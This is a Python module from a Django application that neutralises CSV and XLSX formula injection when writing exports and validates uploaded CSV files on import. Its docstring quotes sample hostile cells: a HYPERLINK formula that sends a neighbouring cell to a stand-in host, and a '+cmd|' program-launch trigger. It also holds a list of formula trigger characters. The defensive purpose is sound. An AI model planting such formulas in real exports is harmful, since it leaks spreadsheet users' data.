"""Every CSV and XLSX file STROM writes or reads goes through this module.

**Writing.** A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or with
a tab or a carriage return, which some programs skip before looking) as a formula: a network service
named ``=HYPERLINK("https://example.org/?"&B2, "Open")`` would send the next cell away when a
coordinator opens the export, and ``+cmd|…`` starts a program in older ones. Following the OWASP
guidance on CSV injection, such a text cell is written with a single quote in front
(``'=HYPERLINK(…)``): the program shows the text, quote and all, and runs nothing. The quote rather
than a leading tab (the other prefix the guidance has seen used): a tab is itself one of the trigger
characters for some programs, is invisible, and is lost to the first tool that trims values, while the
quote shows the reader that the value was guarded and can be taken off exactly when STROM reads the
file again (``restore``). The full-width forms of the four characters are guarded too, because some
programs convert them. Numbers written as numbers stay numbers: -3 is a count, not a formula.

In XLSX the type of a cell is part of the file, so a text cell is never a formula unless the writer
makes it one (openpyxl does, for text starting with ``=``). Text is written as a text cell; text
starting with a trigger character also gets the "quote prefix" flag, the format's own way of storing
a typed leading quote, so the value is kept exactly and stays text when someone edits the cell.

**Reading.** ``read_csv`` turns the bytes of a file into a header and records, or refuses the whole
file with every problem and where it is: the encoding (UTF-8 with or without a byte order mark, or
UTF-16 with one; anything else is refused with how to save the file), NUL characters, sizes (the file,
a line, a value, the number of rows), a file that ends inside a quoted value, a row with more or fewer
values than the header, a column named twice. Importers then check values row by row and only write
when nothing at all was wrong.
"""

from __future__ import annotations

import codecs
import csv
import io
import math
import re
import unicodedata
from collections.abc import Iterable, Iterator
from dataclasses import asdict, dataclass, field
from decimal import Decimal
from typing import Any, Protocol

from django.utils.translation import gettext as _

# OWASP: = + - @ tab carriage return; and the full-width = + - @.
TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
QUOTE = "'"


def _starts_formula(text: str) -> bool:
    # A quote in front of a trigger counts as well, so that a value that really starts with "'="
    # gets a quote of its own and restore() can tell the two apart.
    bare = text.lstrip(QUOTE)
    return bool(bare) and bare[0] in TRIGGERS


def neutralise(text: str) -> str:
    """The text as a spreadsheet shows it without running it."""
    return QUOTE + text if _starts_formula(text) else text


def restore(text: str) -> str:
    """The value that neutralise() turned into `text` (the inverse for every text it can return)."""
    return text[1:] if text.startswith(QUOTE) and _starts_formula(text) else text


def _is_number(value: object) -> bool:
    if isinstance(value, bool):
        return False
    if isinstance(value, int):
        return True
    if isinstance(value, float | Decimal):
        return math.isfinite(value)
    return False


def csv_cell(value: object) -> object:
    """What a CSV file holds for `value`: numbers as they are, text neutralised, None empty."""
    if value is None:
        return ""
    if _is_number(value) or isinstance(value, bool):
        return value
    return neutralise(str(value))


class TextSink(Protocol):
    """Anything csv.writer can write to: a file, a response, a command's stdout."""

    def write(self, text: str, /) -> object: ...


class CsvWriter:
    """A csv.writer whose text cells cannot start a formula."""

    def __init__(self, out: TextSink, *, lineterminator: str = "\n") -> None:
        self._writer = csv.writer(out, lineterminator=lineterminator)
        # The csv module quotes a value holding a character of the line terminator, but a lone
        # carriage return with "\n" lines goes out bare and splits the row when read: such a row is
        # written with every text in quotes.
        self._quoting = csv.writer(out, lineterminator=lineterminator, quoting=csv.QUOTE_NONNUMERIC)
        self._bare_cr = "\r" not in lineterminator

    def writerow(self, row: Iterable[object]) -> None:
        cells = [csv_cell(value) for value in row]
        if self._bare_cr and any(isinstance(cell, str) and "\r" in cell for cell in cells):
            self._quoting.writerow(cells)
        else:
            self._writer.writerow(cells)

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


# Characters the XLSX format cannot hold at all (openpyxl raises on them): shown as U+FFFD.
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


class XlsxSheet:
    def __init__(self, sheet: Any) -> None:
        self._sheet = sheet

    def _cell(self, value: object) -> object:
        from openpyxl.cell.cell import Cell

        if value is None or _is_number(value) or isinstance(value, bool):
            return value
        text = _XLSX_ILLEGAL.sub("\ufffd", str(value))
        cell = Cell(self._sheet, value=text)
        cell.data_type = "s"  # openpyxl has made "=…" a formula; it is text
        if _starts_formula(text):
            cell.quotePrefix = True
        return cell

    def writerow(self, row: Iterable[object]) -> None:
        self._sheet.append([self._cell(value) for value in row])


class XlsxWriter:
    """A workbook written sheet by sheet, row by row, with the same rule as CsvWriter."""

    def __init__(self) -> None:
        from openpyxl import Workbook

        self._book = Workbook()
        self._fresh = True

    def sheet(self, title: str) -> XlsxSheet:
        if self._fresh:
            self._fresh = False
            sheet = self._book.active
            sheet.title = title
        else:
            sheet = self._book.create_sheet(title)
        return XlsxSheet(sheet)

    def getvalue(self) -> bytes:
        out = io.BytesIO()
        self._book.save(out)
        return out.getvalue()


# -- reading --------------------------------------------------------------------------------------

SHOWN_LENGTH = 80


def shown(text: str, length: int = SHOWN_LENGTH) -> str:
    """`text` safe to show in a page, a terminal or a JSON column: control and invisible formatting
    characters written as escapes, and cut to `length` characters."""
    cut = text[:length]
    safe = "".join(
        ch.encode("unicode_escape").decode("ascii")
        if unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Zl", "Zp")
        else ch
        for ch in cut
    )
    return safe + ("…" if len(text) > length else "")


@dataclass(frozen=True)
class RowError:
    """A problem with an imported file: row (the header is row 1; 0 for the file), column, value, why."""

    row: int
    column: str
    value: str
    why: str

    def __post_init__(self) -> None:
        object.__setattr__(self, "column", shown(self.column))
        object.__setattr__(self, "value", shown(self.value))

    def __str__(self) -> str:
        parts = [_("row %(row)d") % {"row": self.row} if self.row else _("file")]
        if self.column:
            parts.append(_("column %(column)s") % {"column": self.column})
        if self.value:
            parts.append(_("value “%(value)s”") % {"value": self.value})
        return f"{', '.join(parts)}: {self.why}"

    def as_dict(self) -> dict[str, Any]:
        return asdict(self)


class FileRejected(Exception):
    """The file cannot be read as a table; `errors` says every problem found and where."""

    def __init__(self, errors: list[RowError]) -> None:
        super().__init__(f"{len(errors)} problems")
        self.errors = errors


@dataclass(frozen=True)
class Limits:
    max_bytes: int = 256 * 1024 * 1024
    max_line: int = 100_000  # characters in one line of the file
    max_field: int = 10_000  # characters in one value
    max_rows: int = 2_000_000  # records after the header


def encoding_advice() -> str:
    return _(
        "STROM reads text in UTF-8 (with or without a byte order mark) or in UTF-16 with a byte order "
        "mark. In a spreadsheet program, save the file as “CSV UTF-8”; in a text editor, save it with "
        "the encoding UTF-8."
    )


def _refuse(row: int, value: str, why: str) -> FileRejected:
    return FileRejected([RowError(row, "", value, why)])


def decode_text(data: bytes, *, limits: Limits | None = None) -> str:
    """The text of `data` in an encoding STROM reads, or FileRejected saying how to save it."""
    limits = limits or Limits()
    if len(data) > limits.max_bytes:
        raise _refuse(
            0,
            "",
            _("The file is larger than %(max)d MB; split it into smaller files.")
            % {"max": limits.max_bytes // 1_000_000},
        )
    if data.startswith((codecs.BOM_UTF32_LE, codecs.BOM_UTF32_BE)):
        raise _refuse(1, "", _("The file is in UTF-32.") + " " + encoding_advice())
    codec = "utf-16" if data.startswith((codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE)) else "utf-8-sig"
    try:
        text = data.decode(codec)
    except UnicodeDecodeError as exc:
        row = data[: exc.start].decode(codec, "replace").count("\n") + 1
        raise _refuse(
            row,
            data[exc.start : exc.start + 4].hex(" "),
            _("The file is not UTF-8 text (byte %(offset)d).") % {"offset": exc.start}
            + " "
            + encoding_advice(),
        ) from None
    nul = text.find("\x00")
    if nul >= 0:
        raise _refuse(
            text.count("\n", 0, nul) + 1,
            "",
            _("The file holds a NUL character, so it is not a text file in an encoding STROM reads.")
            + " "
            + encoding_advice(),
        )
    return text


def _csv_problem(exc: csv.Error) -> str:
    """The csv module's message (English, technical) as a reader would say it."""
    message = str(exc)
    if message.startswith("unexpected end of data"):
        return _("The file ends inside a quoted value: it was cut off, or a quotation mark is not closed.")
    if message.startswith("new-line character seen in unquoted field"):
        return _("A line break inside a value that is not in quotation marks.")
    if message.startswith("field larger than field limit"):
        return _("A value is too long.")
    return _("The text is not valid CSV here (%(detail)s).") % {"detail": message}


def _delimiter(text: str) -> str:
    # Spreadsheet programs in Latvian, Russian, German... locales save "CSV" with semicolons.
    first = text.split("\n", 1)[0]
    return ";" if ";" in first and "," not in first else ","


@dataclass(frozen=True)
class Record:
    row: int  # as a spreadsheet numbers it: the header is row 1
    values: dict[str, str] = field(default_factory=dict)


class CsvRows:
    """The header of a CSV file, and its records when iterated.

    Iterating reads the rest of the file; a value or a whole row that cannot be taken is collected,
    and FileRejected is raised with all of them after the last row, so the importer checks every row
    it was given and still cannot import a file with a broken one. A file that cannot be read on (a
    quote never closed, a line too long) raises FileRejected at once.
    """

    def __init__(self, text: str, limits: Limits) -> None:
        self._limits = limits
        self.estimated_rows = max(1, text.count("\n") - 1)
        self._reader = csv.reader(self._lines(text), delimiter=_delimiter(text), strict=True)
        self._row = 0
        header = self._next()
        while header is not None and not any(h.strip() for h in header):
            header = self._next()  # empty lines above the header
        if header is None:
            raise _refuse(1, "", _("The file is empty."))
        self.header = [h.strip() for h in header]
        problems = self._header_problems()
        if problems:
            raise FileRejected(problems)

    def _lines(self, text: str) -> Iterator[str]:
        for line in io.StringIO(text, newline=""):
            if len(line) > self._limits.max_line:
                raise _refuse(
                    self._row + 1,
                    line,
                    _("A line is longer than %(max)d characters.") % {"max": self._limits.max_line},
                )
            yield line

    def _next(self) -> list[str] | None:
        try:
            values = next(self._reader, None)
        except csv.Error as exc:
            raise _refuse(self._row + 1, "", _csv_problem(exc)) from None
        if values is None:
            return None
        self._row += 1
        if self._row > self._limits.max_rows + 1:
            raise _refuse(
                self._row,
                "",
                _("The file has more than %(max)d rows; split it into smaller files.")
                % {"max": self._limits.max_rows},
            )
        return values

    def _header_problems(self) -> list[RowError]:
        problems = []
        for number, name in enumerate(self.header, start=1):
            if not name:
                problems.append(RowError(1, "", "", _("Column %(number)d has no name.") % {"number": number}))
            elif len(name) > 200:
                problems.append(RowError(1, name, "", _("This column name is too long.")))
        for name in sorted({n for n in self.header if n and self.header.count(n) > 1}):
            problems.append(RowError(1, name, "", _("This column appears more than once.")))
        return problems

    def _row_problems(self, values: list[str]) -> list[RowError]:
        if len(values) != len(self.header):
            return [
                RowError(
                    self._row,
                    "",
                    "",
                    _("This row has %(found)d values; the header has %(expected)d columns.")
                    % {"found": len(values), "expected": len(self.header)},
                )
            ]
        return [
            RowError(
                self._row,
                column,
                value,
                _("This value is longer than %(max)d characters.") % {"max": self._limits.max_field},
            )
            for column, value in zip(self.header, values, strict=True)
            if len(value) > self._limits.max_field
        ]

    def __iter__(self) -> Iterator[Record]:
        problems: list[RowError] = []
        while (raw := self._next()) is not None:
            values = [restore(value) for value in raw]
            if not any(value.strip() for value in values):
                continue  # an empty line, or a row of empty cells a spreadsheet program left behind
            row_problems = self._row_problems(values)
            if row_problems:
                problems += row_problems
                continue
            yield Record(self._row, dict(zip(self.header, values, strict=True)))
        if problems:
            raise FileRejected(problems)


def read_csv(data: bytes, *, limits: Limits | None = None) -> CsvRows:
    """The header and records of a CSV file, or FileRejected (see CsvRows)."""
    limits = limits or Limits()
    return CsvRows(decode_text(data, limits=limits), limits)
